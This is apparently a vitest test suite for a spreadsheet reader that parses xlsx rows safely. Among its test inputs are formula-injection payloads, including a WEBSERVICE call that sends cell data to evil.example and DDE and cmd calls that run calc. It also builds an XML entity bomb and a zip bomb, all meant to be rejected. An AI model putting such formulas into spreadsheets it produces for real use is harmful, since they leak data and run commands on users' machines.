import * as fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import type { TableRow } from './table-row.ts';
import { xlsxRows } from './xlsx-rows.ts';

const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** A workbook of one sheet as its XML has it. */
function workbook(sheetData: string, more: Record<string, string> = {}): Buffer {
  const parts: Record<string, string> = {
    'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="r"><sheets><sheet name="表一" sheetId="1" r:id="a"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="a" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData>${sheetData}</sheetData></worksheet>`,
    ...more,
  };
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]))));
}

async function read(bytes: Buffer, limit?: number): Promise<TableRow[]> {
  return Array.fromAsync(xlsxRows(bytes, '表.xlsx', limit));
}

async function cells(sheetData: string, more?: Record<string, string>): Promise<unknown[]> {
  return (await read(workbook(sheetData, more))).flatMap((row) => [...row.cells.values()]);
}

describe('a workbook', () => {
  it('gives back the texts that were written into it', async () => {
    const text = fc
      .string({ unit: 'grapheme', maxLength: 20 })
      .map((value) => value.replaceAll(/[\p{C}]/gu, '').trim())
      // The library that writes here takes the names of every object's members for texts it knows.
      .filter((value) => value !== '' && !/_x[0-9A-F]{4}_/.test(value) && !(value in Object.prototype));
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        async (rows) => {
          const data = rows.map((row) => row.map((value) => ({ value, type: String })));
          const found = await read(await writeExcelFile(data, { sheet: '表' }).toBuffer());
          expect(found.map((row) => [...row.cells.values()])).toEqual(
            rows.map((row) => row.map((value) => ({ text: value }))),
          );
          expect(found.map(({ sheet, row }) => [sheet, row])).toEqual(rows.map((_, index) => ['表', index + 1]));
        },
      ),
      { numRuns: 20 },
    );
  });

  it('names rows and columns as the sheet shows them, with holes', async () => {
    const [row] = await read(
      workbook('<row r="7"><c r="B7"><v>1</v></c><c r="AA7" t="inlineStr"><is><t>甲</t></is></c></row>'),
    );
    expect(row).toMatchObject({ sheet: '表一', row: 7 });
    expect([...(row?.cells ?? [])]).toEqual([
      [1, { text: '1' }],
      [26, { text: '甲' }],
    ]);
  });

  it('evaluates no formula: it counts for the value it was saved with', async () => {
    expect(await cells('<row><c t="str"><f>A1&amp;"市"</f><v>东川市</v></c><c><f>1+1</f><v>2</v></c></row>')).toEqual([
      { text: '东川市' },
      { text: '2' },
    ]);
  });

  it.each([
    'WEBSERVICE("http://evil.example/"&amp;A1)',
    "cmd|'/c calc'!A0",
    'DDE("cmd","/c calc","A0")',
    "'[other.xlsx]Sheet1'!A1",
    'HYPERLINK("http://evil.example")',
    'RTD("prog",,"x")',
  ])('refuses the formula %s, which calls out', async (formula) => {
    expect(await cells(`<row><c t="str"><f>${formula}</f><v>x</v></c></row>`)).toEqual([
      { problem: expect.objectContaining({ zh: expect.stringContaining('公式会访问') }) },
    ]);
  });

  it('says so of errors and of numbers that have lost their last digits, and writes others in full', async () => {
    expect(
      await cells(
        '<row><c t="e"><v>#N/A</v></c><c><v>1.10000000000000001E+17</v></c><c><v>1.3800001234E10</v></c><c t="b"><v>1</v></c></row>',
      ),
    ).toEqual([
      { problem: expect.objectContaining({ zh: expect.stringContaining('#N/A') }) },
      { problem: expect.objectContaining({ zh: expect.stringContaining('15 位') }) },
      { text: '13800001234' },
      { text: '是' },
    ]);
  });

  it('reads shared texts without the readings above them', async () => {
    const shared = `<sst><si><r><t>东川</t></r><r><t>市</t></r><rPh><t>dong</t></rPh></si></sst>`;
    expect(await cells('<row><c t="s"><v>0</v></c></row>', { 'xl/sharedStrings.xml': shared })).toEqual([
      { text: '东川市' },
    ]);
  });

  it('reads the names of the members of every object as texts like any other', async () => {
    const names = ['valueOf', 'constructor', '__proto__'];
    const shared = `<sst>${names.map((name) => `<si><t>${name}</t></si>`).join('')}</sst>`;
    const row = `<row>${names.map((_, place) => `<c t="s"><v>${place}</v></c>`).join('')}</row>`;
    expect(await cells(row, { 'xl/sharedStrings.xml': shared })).toEqual(names.map((text) => ({ text })));
  });

  it('passes over hidden sheets and parts that lie outside the file', async () => {
    const book = `<workbook><sheets><sheet name="隐" state="veryHidden" r:id="a"/><sheet name="外" r:id="b"/></sheets></workbook>`;
    const relations = `<Relationships><Relationship Id="a" Target="worksheets/sheet1.xml"/><Relationship Id="b" TargetMode="External" Target="http://evil.example/"/></Relationships>`;
    await expect(
      read(
        workbook('<row><c><v>1</v></c></row>', {
          'xl/workbook.xml': book.replace('<workbook>', '<workbook xmlns:r="r">'),
          'xl/_rels/workbook.xml.rels': relations,
        }),
      ),
    ).rejects.toThrow('没有可见的工作表');
  });

  it('takes no document type, and so no entities', async () => {
    const bomb = `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet><sheetData><row><c><v>&b;</v></c></row></sheetData></worksheet>`;
    await expect(read(workbook('', { 'xl/worksheets/sheet1.xml': bomb }))).rejects.toThrow('不是完好的 Excel');
  });

  it('stops where it unpacks to too much, however small it is packed', async () => {
    const bytes = workbook(`<row><c t="str"><v>${' '.repeat(20_000_000)}</v></c></row>`);
    expect(bytes.length).toBeLessThan(100_000);
    await expect(read(bytes, 10_000_000)).rejects.toThrow('解压后过大');
  });

  it('is refused in one line when it is damaged or none', async () => {
    const good = workbook('<row><c><v>1</v></c></row>');
    await expect(read(good.subarray(0, good.length - 30))).rejects.toThrow('不是完好的 Excel');
    await expect(read(Buffer.from('PK nonsense'))).rejects.toThrow('不是完好的 Excel');
    await expect(read(workbook('<row><c>'))).rejects.toThrow('不是完好的 Excel');
  });

  it('that counts its days from 1904 is refused', async () => {
    const book = `<workbook xmlns:r="r"><workbookPr date1904="1"/><sheets><sheet name="表一" r:id="a"/></sheets></workbook>`;
    await expect(read(workbook('', { 'xl/workbook.xml': book }))).rejects.toThrow('1904');
  });
});
